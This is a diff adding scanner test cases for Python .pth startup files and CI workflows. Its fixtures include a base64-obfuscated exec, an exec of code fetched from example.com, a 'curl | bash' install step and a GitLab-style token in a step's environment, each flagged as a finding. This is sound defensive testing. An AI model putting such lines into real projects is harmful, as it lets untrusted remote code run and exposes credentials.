@@ -235,3 +235,35 @@ describe('files: build servers', () => {
     `;
   });
 });
+
+describe('files: lines that run when Python starts', () => {
+  it('are checked as code, and paths are not', () => {
+    fileCheck('site/a.pth')`
+      /srv/app/lib
+      import os, base64; exec(base64.b64decode("aW1wb3J0IG9zCm9zLmdldGN3ZCgp"))
+                              ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ obfuscated-exec
+      import sys; sys.path.insert(0, "/srv/app/plugins")
+    `;
+    fileCheck('site/b.pth')`
+      import urllib.request; exec(urllib.request.urlopen("https://example.com/a.py").read())
+                                  ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ install-hook
+    `;
+  });
+});
+
+describe("files: secrets of a build server's steps", () => {
+  it('are held by no other step', () => {
+    workflow`
+      jobs:
+        build:
+          runs-on: ubuntu-latest
+          steps:
+            - run: curl -L https://example.com/install.sh | bash
+                   ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ download-and-run
+            - run: make publish
+              env:
+                TOKEN: glpat-m1JVMNVVX7sJxemd93LV
+                       ^^^^^^^^^^^^^^^^^^^^^^^^^^ exposed-secret
+    `;
+  });
+});
